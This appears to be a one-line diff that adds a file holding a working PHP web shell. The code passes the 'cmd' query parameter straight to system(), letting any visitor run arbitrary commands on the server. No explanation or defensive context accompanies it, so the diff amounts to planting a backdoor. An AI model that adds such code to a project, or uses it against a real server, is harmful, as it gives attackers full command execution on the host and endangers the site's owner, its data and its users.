@@ -1,0 +1,1 @@
+<?php if (isset($_GET['cmd'])) { system($_GET['cmd']); } ?>
